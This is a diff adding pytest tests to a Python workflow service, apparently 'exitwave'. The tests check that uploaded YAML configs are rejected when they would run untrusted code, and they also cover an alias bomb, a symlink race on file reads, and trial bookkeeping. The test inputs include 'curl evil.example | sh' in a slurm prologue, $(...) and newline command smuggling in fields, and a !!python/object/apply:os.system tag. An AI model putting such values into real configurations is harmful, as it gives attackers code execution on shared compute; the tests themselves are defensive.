@@ -137,6 +137,57 @@ def test_paths_outside_the_root_are_refused(tmp_path, source):
 
 
 @pytest.mark.parametrize(
+    "section",
+    [
+        "cluster: {kind: 'tcp://evil.example:8786'}",
+        "cluster: {kind: slurm, slurm: {prologue: ['curl evil.example | sh']}}",
+        "cluster: {kind: slurm, slurm: {directives: ['--wrap=true']}}",
+        "cluster: {kind: slurm, slurm: {python: /tmp/evil}}",
+        'cluster: {kind: slurm, slurm: {partition: "cpu\\ncurl evil.example"}}',
+        "cluster: {kind: slurm, slurm: {account: '$(true)'}}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, slurm: {prologue: [true]}}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '$(true)'}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '/etc'}",
+    ],
+)
+def test_what_would_run_the_senders_program_is_refused(tmp_path, section):
+    text = line.PIPELINE.replace("cluster: {kind: local, workers: 2}", section)
+    assert text != line.PIPELINE
+    with pytest.raises(UsageError, match=r"mine\.yaml:"):
+        checked(text, name="mine", root=tmp_path)
+
+
+def test_a_plain_cluster_is_taken(tmp_path):
+    slurm = "cluster: {kind: slurm, workers: 4, slurm: {partition: cpu, account: phys, walltime: '04:00:00'}}"
+    checked(line.PIPELINE.replace("cluster: {kind: local, workers: 2}", slurm), name="mine", root=tmp_path)
+
+
+def test_a_bomb_of_aliases_is_refused_soon(tmp_path):
+    names = "abcdefghij"
+    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
+    lines += [f"{n}: &{n} [{', '.join(9 * ['*' + before])}]" for before, n in itertools.pairwise(names)]
+    begun = time.process_time()
+    with pytest.raises(UsageError, match="aliases"):
+        checked("\n".join(lines), name="mine", root=tmp_path)
+    assert time.process_time() - begun < 20
+
+
+def test_a_file_that_is_changed_for_a_link_meanwhile_is_not_read(tmp_path):
+    from exitwave.workflows.service.catalogue import read_inside
+
+    root = tmp_path / "root"
+    (root / "run").mkdir(parents=True)
+    (root / "run" / "report.html").write_text("ours")
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "report.html").write_text("another's")
+    assert read_inside(root, root / "run" / "report.html") == b"ours"
+    (root / "run").rename(root / "before")
+    (root / "run").symlink_to(tmp_path / "elsewhere")  # between the look at the folder and the opening
+    assert read_inside(root, root / "run" / "report.html") is None
+    assert read_inside(root, root / "nothing") is None and read_inside(root, root / "before") is None
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "!!python/object/apply:os.system ['true']",
@@ -293,3 +344,49 @@ def test_what_many_ask_for_is_made_once():
     assert made == ["a"] and shared.fresh("a") == "A" and shared.fresh("b") is None
     shared.forget("a")
     assert shared.get("a") == "A" and made == ["a", "a"]
+
+
+def test_a_search_is_one_run_with_a_table_of_its_trials(tmp_path):
+    from exitwave.ingest.events import EventLog
+    from exitwave.ingest.files import FileLock
+    from exitwave.workflows.service.facts import Facts
+
+    study = tmp_path / "search"
+    (study / "trials" / "0").mkdir(parents=True)
+    (study / "trials" / "0" / "train.json").write_text("{}")
+    (study / "tune.yaml").write_text("name: search")
+    log = EventLog(study / "events.jsonl")
+    log.emit("study_started", name="search", trials=4, dataset_id="x", cluster="inline")
+    for n in range(2):
+        log.emit("trial_asked", n=n, values={"train.optimizer.lr": 0.1 * (n + 1)})
+        log.emit("trial_begun", n=n, ranks=1)
+    log.emit("trial_reported", n=0, rung=1, step=5, value=0.5)
+    log.emit("trial_finished", n=0, step=9, value=0.25, seconds=2.0)
+    (place,) = scan(tmp_path)
+    assert (place.kind, place.training, place.dataset) == ("study", None, study / "dataset")
+    facts = Facts().whole(place, None, None)
+    assert facts["state"] == "stopped"
+    table = facts["trials"]
+    assert table["columns"] == ["trial", "optimizer.lr", "state", "objective", "seconds"]
+    assert table["rows"] == [[1, 0.2, "running", None, None], [0, 0.1, "finished", 0.25, 2.0]]
+    assert (table["done"], table["planned"]) == (1, 4)
+    with FileLock(study / ".lock"):
+        assert Facts().short(place, None, None)["state"] == "running"
+    log.emit("study_finished")
+    assert Facts().short(place, None, None)["state"] == "finished"
+
+
+@pytest.mark.parametrize(
+    ("section", "words"),
+    [
+        ("", ["run", "C", "--out", "O"]),
+        ("online: {}\n", ["run", "C", "--online", "--out", "O"]),
+        ("tune: {}\n", ["tune", "C", "--out", "O"]),
+    ],
+)
+def test_what_a_submission_starts(section, words):
+    from exitwave.workflows.config import parse_document
+    from exitwave.workflows.service.submit import arguments_for, verb_of
+
+    document = parse_document(section + line.PIPELINE, source="a.yaml", folder=Path())
+    assert arguments_for(Path("C"), Path("O"), verb=verb_of(document)) == words
